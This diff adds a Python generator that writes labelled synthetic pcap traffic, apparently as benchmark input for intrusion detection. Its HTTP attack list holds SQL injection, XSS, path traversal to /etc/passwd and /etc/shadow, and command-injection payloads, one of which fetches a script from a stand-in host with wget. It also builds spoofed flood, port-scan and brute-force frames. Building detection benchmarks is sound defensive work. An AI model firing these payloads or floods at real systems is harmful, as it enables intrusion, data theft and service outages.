@@ -0,0 +1,298 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+"""确定性的合成流量生成器：按场景比例生成以太网帧并写入pcap文件
+
+场景：
+    web          正常访问：HTTP请求/响应、HTTPS载荷和DNS查询
+    scan         端口扫描：同一来源按顺序向目标的各端口发送SYN
+    flood        洪水攻击：伪造来源的SYN洪水、UDP洪水和ICMP洪水
+    brute_force  暴力破解：SSH短连接载荷和HTTP登录表单的密码猜测
+    http_attack  HTTP攻击：SQL注入、XSS、路径穿越和命令注入请求
+
+相同的种子、数量和比例总是生成逐字节相同的pcap文件。帧直接用struct构造，不依赖Scapy；
+每个包的场景标签写入同名的 .labels 文件（每行一个），供基准测试生成对应的告警。
+
+运行方式（在 app 目录下）:
+    python -m benchmarks.pcap_gen --packets 100000 --seed 42 --mix web=70,scan=5,flood=15,brute_force=5,http_attack=5 -o /tmp/mixed.pcap
+"""
+
+import struct
+import random
+import argparse
+
+SCENARIOS = ('web', 'scan', 'flood', 'brute_force', 'http_attack')
+DEFAULT_MIX = {'web': 70, 'scan': 5, 'flood': 15, 'brute_force': 5, 'http_attack': 5}
+
+PCAP_MAGIC = 0xa1b2c3d4
+LINKTYPE_ETHERNET = 1
+
+_ETHER = struct.Struct('!6s6sH')
+_IPV4 = struct.Struct('!BBHHHBBH4s4s')
+_TCP = struct.Struct('!HHIIBBHHH')
+_UDP = struct.Struct('!HHHH')
+_ICMP = struct.Struct('!BBHHH')
+_RECORD = struct.Struct('<IIII')
+
+TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
+
+SERVERS = [f"10.0.0.{i}" for i in range(10, 20)]
+
+HTTP_ATTACKS = [
+    "/products?id=1' OR '1'='1",
+    "/products?id=1 UNION SELECT username,password FROM users--",
+    "/search?q=<script>alert(document.cookie)</script>",
+    "/comment?text=<img src=x onerror=alert(1)>",
+    "/download?file=../../../../etc/passwd",
+    "/static/..%2f..%2f..%2fetc%2fshadow",
+    "/ping?host=127.0.0.1;cat /etc/passwd",
+    "/cgi-bin/test.sh?cmd=$(wget http://203.0.113.7/x.sh)",
+]
+WEB_PATHS = ['/', '/index.html', '/api/products', '/api/cart', '/static/app.js', '/static/style.css',
+             '/images/logo.png', '/login', '/search?q=shoes', '/api/orders/1024']
+PASSWORDS = ['123456', 'password', 'admin', 'qwerty', 'letmein', 'root', 'toor', 'passw0rd']
+
+
+def _ip_bytes(ip):
+    return bytes(int(part) for part in ip.split('.'))
+
+
+def _checksum(data):
+    if len(data) % 2:
+        data += b'\x00'
+    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+class PacketBuilder:
+    """以太网/IPv4/TCP/UDP/ICMP帧构造"""
+
+    def __init__(self):
+        self._ident = 0
+
+    def _ipv4(self, src, dst, proto, segment):
+        self._ident = (self._ident + 1) & 0xffff
+        header = _IPV4.pack(0x45, 0, 20 + len(segment), self._ident, 0x4000, 64, proto, 0,
+                            _ip_bytes(src), _ip_bytes(dst))
+        header = header[:10] + struct.pack('!H', _checksum(header)) + header[12:]
+        ip_packet = header + segment
+        return _ETHER.pack(b'\x02\x00\x00\x00\x00\x02', b'\x02\x00\x00\x00\x00\x01', 0x0800) + ip_packet
+
+    def _pseudo(self, src, dst, proto, length):
+        return _ip_bytes(src) + _ip_bytes(dst) + struct.pack('!BBH', 0, proto, length)
+
+    def tcp(self, src, dst, sport, dport, flags, payload=b'', seq=0, ack=0):
+        header = _TCP.pack(sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
+        checksum = _checksum(self._pseudo(src, dst, 6, len(header) + len(payload)) + header + payload)
+        segment = header[:16] + struct.pack('!H', checksum) + header[18:] + payload
+        return self._ipv4(src, dst, 6, segment)
+
+    def udp(self, src, dst, sport, dport, payload=b''):
+        header = _UDP.pack(sport, dport, 8 + len(payload), 0)
+        checksum = _checksum(self._pseudo(src, dst, 17, len(header) + len(payload)) + header + payload) or 0xffff
+        return self._ipv4(src, dst, 17, header[:6] + struct.pack('!H', checksum) + payload)
+
+    def icmp_echo(self, src, dst, ident, seq, payload=b''):
+        header = _ICMP.pack(8, 0, 0, ident, seq)
+        checksum = _checksum(header + payload)
+        return self._ipv4(src, dst, 1, header[:2] + struct.pack('!H', checksum) + header[4:] + payload)
+
+
+class TrafficGenerator:
+    """按场景比例生成 (时间戳, 帧, 标签)，同一种子的输出完全相同"""
+
+    def __init__(self, seed=42, start_time=1700000000.0, rate=50000):
+        self.rng = random.Random(seed)
+        self.start_time = start_time
+        self.rate = rate  # 每秒包数，决定时间戳间隔
+        self.builder = PacketBuilder()
+        self._streams = {name: getattr(self, f'_{name}')() for name in SCENARIOS}
+
+    def generate(self, count, mix=None):
+        """生成count个包，mix为 {场景: 权重}"""
+        mix = {name: weight for name, weight in (mix or DEFAULT_MIX).items() if weight > 0}
+        unknown = set(mix) - set(SCENARIOS)
+        if unknown:
+            raise ValueError(f"未知的流量场景: {', '.join(sorted(unknown))}")
+        names = list(mix)
+        weights = [mix[name] for name in names]
+        choices = self.rng.choices(names, weights, k=count)
+        for i, name in enumerate(choices):
+            yield self.start_time + i / self.rate, next(self._streams[name]), name
+
+    def _client(self):
+        return f"192.168.{self.rng.randint(0, 15)}.{self.rng.randint(2, 254)}"
+
+    def _external(self):
+        rng = self.rng
+        return f"{rng.choice([45, 89, 103, 185, 203])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+
+    def _http_request(self, method, path, host, body=''):
+        lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)",
+                 "Accept: */*", "Connection: keep-alive"]
+        if body:
+            lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
+        return ('\r\n'.join(lines) + '\r\n\r\n' + body).encode()
+
+    def _web(self):
+        rng, build = self.rng, self.builder
+        while True:
+            client, server, sport = self._client(), rng.choice(SERVERS), rng.randint(1024, 65535)
+            kind = rng.random()
+            if kind < 0.1:
+                # DNS查询与应答
+                name = rng.choice([b'\x07example\x03com', b'\x03api\x04shop\x03net'])
+                query = struct.pack('!HHHHHH', rng.randint(0, 65535), 0x0100, 1, 0, 0, 0) + name + b'\x00\x00\x01\x00\x01'
+                yield build.udp(client, '10.0.0.2', sport, 53, query)
+                yield build.udp('10.0.0.2', client, 53, sport, query + b'\xc0\x0c' + bytes(14))
+                continue
+            dport = 80 if kind < 0.6 else 443
+            seq = rng.randint(0, 2 ** 32 - 1)
+            yield build.tcp(client, server, sport, dport, TCP_SYN, seq=seq)
+            yield build.tcp(server, client, dport, sport, TCP_SYN | TCP_ACK, ack=seq + 1)
+            yield build.tcp(client, server, sport, dport, TCP_ACK, seq=seq + 1)
+            if dport == 80:
+                request = self._http_request('GET', rng.choice(WEB_PATHS), server)
+                body = b'<html>' + b'x' * rng.randint(100, 1300) + b'</html>'
+                response = b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n' + body
+            else:
+                request = rng.randbytes(rng.randint(200, 600))
+                response = rng.randbytes(rng.randint(500, 1400))
+            yield build.tcp(client, server, sport, dport, TCP_PSH | TCP_ACK, request, seq=seq + 1)
+            for _ in range(rng.randint(1, 4)):
+                yield build.tcp(server, client, dport, sport, TCP_PSH | TCP_ACK, response)
+            yield build.tcp(client, server, sport, dport, TCP_FIN | TCP_ACK, seq=seq + 1 + len(request))
+
+    def _scan(self):
+        rng, build = self.rng, self.builder
+        while True:
+            attacker, target = self._external(), rng.choice(SERVERS)
+            sport = rng.randint(40000, 65000)
+            for dport in range(1, rng.randint(200, 2000)):
+                yield build.tcp(attacker, target, sport, dport, TCP_SYN, seq=rng.randint(0, 2 ** 32 - 1))
+                if dport in (22, 80, 443):
+                    yield build.tcp(target, attacker, dport, sport, TCP_SYN | TCP_ACK)
+                elif rng.random() < 0.3:
+                    yield build.tcp(target, attacker, dport, sport, TCP_RST | TCP_ACK)
+
+    def _flood(self):
+        rng, build = self.rng, self.builder
+        while True:
+            target = rng.choice(SERVERS)
+            kind = rng.randrange(3)
+            for _ in range(rng.randint(500, 3000)):
+                spoofed = self._external()
+                if kind == 0:
+                    yield build.tcp(spoofed, target, rng.randint(1024, 65535), 80, TCP_SYN,
+                                    seq=rng.randint(0, 2 ** 32 - 1))
+                elif kind == 1:
+                    yield build.udp(spoofed, target, rng.randint(1024, 65535), rng.choice([53, 123, 1900]),
+                                    bytes(rng.randint(64, 1400)))
+                else:
+                    yield build.icmp_echo(spoofed, target, rng.randint(0, 65535), rng.randint(0, 65535), bytes(56))
+
+    def _brute_force(self):
+        rng, build = self.rng, self.builder
+        while True:
+            attacker, target = self._external(), rng.choice(SERVERS)
+            ssh = rng.random() < 0.5
+            for attempt in range(rng.randint(50, 500)):
+                sport = rng.randint(1024, 65535)
+                if ssh:
+                    yield build.tcp(attacker, target, sport, 22, TCP_SYN)
+                    yield build.tcp(attacker, target, sport, 22, TCP_PSH | TCP_ACK, rng.randbytes(rng.randint(48, 160)))
+                    yield build.tcp(target, attacker, 22, sport, TCP_PSH | TCP_ACK, rng.randbytes(rng.randint(48, 96)))
+                else:
+                    body = f"username=admin&password={rng.choice(PASSWORDS)}{attempt}"
+                    yield build.tcp(attacker, target, sport, 80, TCP_PSH | TCP_ACK,
+                                    self._http_request('POST', '/login', target, body))
+                    yield build.tcp(target, attacker, 80, sport, TCP_PSH | TCP_ACK,
+                                    b'HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n')
+
+    def _http_attack(self):
+        rng, build = self.rng, self.builder
+        while True:
+            attacker, target = self._external(), rng.choice(SERVERS)
+            for _ in range(rng.randint(5, 50)):
+                sport = rng.randint(1024, 65535)
+                yield build.tcp(attacker, target, sport, 80, TCP_PSH | TCP_ACK,
+                                self._http_request('GET', rng.choice(HTTP_ATTACKS), target))
+                yield build.tcp(target, attacker, 80, sport, TCP_PSH | TCP_ACK,
+                                b'HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n')
+
+
+def write_pcap(path, records):
+    """写入pcap文件（微秒时间戳，以太网链路），records为 (时间戳, 帧, 标签)，返回包数"""
+    count = 0
+    with open(path, 'wb') as f, open(path + '.labels', 'w') as labels:
+        f.write(struct.pack('<IHHiIII', PCAP_MAGIC, 2, 4, 0, 0, 65535, LINKTYPE_ETHERNET))
+        for timestamp, frame, label in records:
+            seconds = int(timestamp)
+            f.write(_RECORD.pack(seconds, int(round((timestamp - seconds) * 1e6)), len(frame), len(frame)))
+            f.write(frame)
+            labels.write(label + '\n')
+            count += 1
+    return count
+
+
+def read_pcap(path):
+    """读取pcap文件，逐个返回 (时间戳, 帧)"""
+    with open(path, 'rb') as f:
+        header = f.read(24)
+        if len(header) < 24:
+            raise ValueError(f"不是有效的pcap文件: {path}")
+        magic = struct.unpack('<I', header[:4])[0]
+        if magic in (0xa1b2c3d4, 0xa1b23c4d):
+            endian = '<'
+        elif magic in (0xd4c3b2a1, 0x4d3cb2a1):
+            endian = '>'
+            magic = struct.unpack('>I', header[:4])[0]
+        else:
+            raise ValueError(f"不是有效的pcap文件: {path}")
+        divisor = 1e9 if magic == 0xa1b23c4d else 1e6
+        record = struct.Struct(endian + 'IIII')
+        while True:
+            data = f.read(16)
+            if len(data) < 16:
+                break
+            seconds, fraction, incl_len, _ = record.unpack(data)
+            yield seconds + fraction / divisor, f.read(incl_len)
+
+
+def read_labels(path):
+    """读取pcap对应的标签文件，不存在时返回None"""
+    try:
+        with open(path + '.labels') as f:
+            return f.read().split()
+    except FileNotFoundError:
+        return None
+
+
+def parse_mix(text):
+    """解析 "web=70,flood=15" 形式的场景比例"""
+    mix = {}
+    for item in text.split(','):
+        name, _, weight = item.partition('=')
+        mix[name.strip()] = float(weight or 1)
+    return mix
+
+
+def main():
+    parser = argparse.ArgumentParser(description='合成流量pcap生成器')
+    parser.add_argument('--packets', type=int, default=100000, help='生成的数据包数量')
+    parser.add_argument('--seed', type=int, default=42, help='随机种子')
+    parser.add_argument('--mix', default=','.join(f'{k}={v}' for k, v in DEFAULT_MIX.items()),
+                        help=f"场景比例，可选场景: {', '.join(SCENARIOS)}")
+    parser.add_argument('--rate', type=int, default=50000, help='时间戳对应的每秒包数')
+    parser.add_argument('-o', '--output', default='synthetic.pcap', help='输出的pcap文件')
+    args = parser.parse_args()
+
+    generator = TrafficGenerator(args.seed, rate=args.rate)
+    count = write_pcap(args.output, generator.generate(args.packets, parse_mix(args.mix)))
+    print(f"已生成 {count} 个数据包: {args.output}（标签: {args.output}.labels）")
+
+
+if __name__ == "__main__":
+    main()